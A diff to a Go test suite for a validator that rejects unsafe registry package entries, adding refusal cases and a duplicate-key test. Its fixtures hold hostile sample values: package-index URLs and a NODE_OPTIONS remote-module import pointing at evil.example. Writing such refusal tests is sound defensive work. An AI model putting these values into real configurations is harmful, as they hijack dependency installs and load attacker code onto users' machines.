@@ -50,6 +50,8 @@ func TestEntryMembersBoundOrRefused(t *testing.T) {
 		{"PIP_INDEX_URL default", env(`{"name":"PIP_INDEX_URL","default":"https://pypi.evil.example/simple"}`), "/packages/0/environmentVariables/0/default", false},
 		{"UV_INDEX_URL asked of the user", env(`{"name":"UV_INDEX_URL","description":"set it to https://uv.evil.example"}`), "/packages/0/environmentVariables/0/name", false},
 		{"NODE_OPTIONS --import", env(`{"name":"NODE_OPTIONS","value":"--import=https://evil.example/x.mjs"}`), "/packages/0/environmentVariables/0/value", false},
+		{"a name with a space", env(`{"name":" NODE_OPTIONS"}`), "/packages/0/environmentVariables/0/name", false},
+		{"an argument of no known type", pkg(`,"packageArguments":[{"type":"raw","valueHint":"x"}]`), "/packages/0/packageArguments/0/type", false},
 		{"npm_config in upper case", env(`{"name":"NPM_CONFIG_REGISTRY","isRequired":true}`), "/packages/0/environmentVariables/0/name", false},
 		{"any value the registry chose", env(`{"name":"ACME_TOKEN","isSecret":true},{"name":"LOG_LEVEL","default":"debug"}`), "/packages/0/environmentVariables/1/default", false},
 		{"a value built from variables", env(`{"name":"ACME_URL","variables":{"host":{"default":"evil.example"}}}`), "/packages/0/environmentVariables/0/variables", false},
@@ -506,5 +508,18 @@ func TestRefusalsNameEntryAndPosition(t *testing.T) {
 	v.RunSource(context.Background(), src, SourceOptions{RunOptions: RunOptions{Emit: WriteResults(&buf, false)}})
 	if !strings.Contains(buf.String(), `"" "1" (line 2, entry 0) at step entry: invalid registry entry: /name: empty`) {
 		t.Fatalf("%s", buf.String())
+	}
+}
+
+// TestDupKey: names that differ only in ASCII case are one name to the
+// duplicate check; the key cannot be forged by moving bytes between the
+// name and the version.
+func TestDupKey(t *testing.T) {
+	t.Parallel()
+	if dupKey("io.github.Acme/Notes", "1") != dupKey("io.github.acme/notes", "1") {
+		t.Error("case variants are two keys")
+	}
+	if dupKey("a/b", "11") == dupKey("a/b1", "1") || dupKey("a/b", "1") == dupKey("a/b", "2") {
+		t.Error("distinct entries share a key")
 	}
 }
